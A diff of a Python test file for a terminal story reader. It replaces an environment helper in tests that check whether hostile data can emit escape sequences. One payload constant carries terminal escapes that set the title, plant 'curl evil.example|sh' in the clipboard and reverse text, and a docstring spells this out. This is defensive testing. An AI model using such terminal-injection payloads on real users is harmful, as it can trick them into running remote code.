@@ -9,14 +9,13 @@ ESC, C1, NUL or bidirectional control that came from the data fails them.
 from __future__ import annotations
 
 import json
-import os
 import sys
 from pathlib import Path
 from typing import Any
 
 import pytest
 
-from terminal import Pty, judge, run_on_pty
+from terminal import Pty, judge, run_on_pty, scratch_environment
 
 HERE = Path(__file__).resolve().parent
 HOSTILE = HERE / "data" / "hostile.json"
@@ -24,24 +23,6 @@ PAYLOAD = "\x1b]2;PWNED\x1b\\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x1b\\\u202e\
 """Sets the window title, writes `curl evil.example|sh` to the clipboard, reverses text."""
 
 pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="needs a POSIX pty")
-
-
-def _env(tmp_path: Path) -> dict[str, str]:
-    env = {
-        key: value
-        for key, value in os.environ.items()
-        if key not in {"NO_COLOR", "TEXTUAL_THEME", "COLUMNS", "LINES"}
-    }
-    env.update(
-        TERM="xterm-256color",
-        HOME=str(tmp_path / "home"),
-        XDG_STATE_HOME=str(tmp_path / "state"),
-        XDG_DATA_HOME=str(tmp_path / "data"),
-        XDG_CONFIG_HOME=str(tmp_path / "config"),
-        XDG_CACHE_HOME=str(tmp_path / "cache"),
-        SMAREADER_LIBRARY=str(tmp_path / "library.sqlite"),
-    )
-    return env
 
 
 def _keys(text: str) -> list[bytes]:
@@ -61,7 +42,9 @@ def test_reader_every_row_of_every_pane_writes_nothing_from_the_story(tmp_path: 
     """Highlight every row of every list, open details, help, the palette and copy."""
     story = json.loads(HOSTILE.read_text(encoding="utf-8"))
     rows = len(story["speakers"]) + len(story["quotes"]) + 4
-    terminal = Pty([sys.executable, "-m", "smareader", str(HOSTILE)], env=_env(tmp_path))
+    terminal = Pty(
+        [sys.executable, "-m", "smareader", str(HOSTILE)], env=scratch_environment(tmp_path)
+    )
     try:
         assert terminal.wait_for(b"Timeline"), "the reader did not start"
         # Timeline: every row, including the publication-day marker.
@@ -109,7 +92,9 @@ def test_review_mode_writes_nothing_from_the_story(tmp_path: Path) -> None:
         item.update(review="pending", rule=f"rule{PAYLOAD}"[:80], confidence=number / 100)
     draft = tmp_path / "draft.json"
     draft.write_text(json.dumps(story), encoding="utf-8")
-    terminal = Pty([sys.executable, "-m", "smareader", str(draft)], env=_env(tmp_path))
+    terminal = Pty(
+        [sys.executable, "-m", "smareader", str(draft)], env=scratch_environment(tmp_path)
+    )
     try:
         assert terminal.wait_for(b"Accept"), "the draft did not open in review mode"
         terminal.press([b"1", *_keys("j" * 4)])
@@ -205,7 +190,9 @@ def test_every_command_writes_nothing_from_the_data(tmp_path: Path, command: lis
     names = {name: str(path) for name, path in files.items()}
     names.update(folder=str(files["valid"].parent), payload=PAYLOAD)
     argv = [part.format(**names) for part in command]
-    code, output = run_on_pty([sys.executable, "-m", "smareader", *argv], env=_env(tmp_path))
+    code, output = run_on_pty(
+        [sys.executable, "-m", "smareader", *argv], env=scratch_environment(tmp_path)
+    )
     verdict = judge(output)
     assert verdict.problems == [], output[-2000:]
     assert b"Traceback" not in output
@@ -217,7 +204,8 @@ def test_every_command_writes_nothing_from_the_data(tmp_path: Path, command: lis
 def test_a_newline_in_a_key_cannot_forge_a_line(tmp_path: Path) -> None:
     files = _hostile_files(tmp_path)
     code, output = run_on_pty(
-        [sys.executable, "-m", "smareader", "validate", str(files["keys"])], env=_env(tmp_path)
+        [sys.executable, "-m", "smareader", "validate", str(files["keys"])],
+        env=scratch_environment(tmp_path),
     )
     assert code == 1
     text = output.decode("utf-8")
@@ -251,7 +239,9 @@ def test_library_reader_every_row_of_every_pane_writes_nothing_from_the_story(
     folder.mkdir()
     (folder / "hostile.json").write_text(json.dumps(story), encoding="utf-8")
     rows = len(story["speakers"]) + len(story["quotes"]) + len(story["events"]) + 8
-    terminal = Pty([sys.executable, "-m", "smareader", str(folder)], env=_env(tmp_path))
+    terminal = Pty(
+        [sys.executable, "-m", "smareader", str(folder)], env=scratch_environment(tmp_path)
+    )
     try:
         assert terminal.wait_for(b"Stories"), "the library reader did not start"
         terminal.press([b"1", *_keys("j" * 3), b"o"], settle=0.8)  # open it in full
